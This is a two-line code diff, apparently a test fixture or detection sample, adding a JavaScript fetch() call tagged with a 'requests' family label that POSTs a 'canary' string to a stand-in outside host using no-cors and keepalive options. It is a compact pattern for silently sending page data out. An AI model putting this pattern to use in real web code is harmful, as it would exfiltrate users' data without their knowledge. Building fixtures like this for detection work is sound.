@@ -1,0 +1,2 @@
+/* {"family": "requests"} */
+fetch('https://out.example/keepalive', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'canary' });
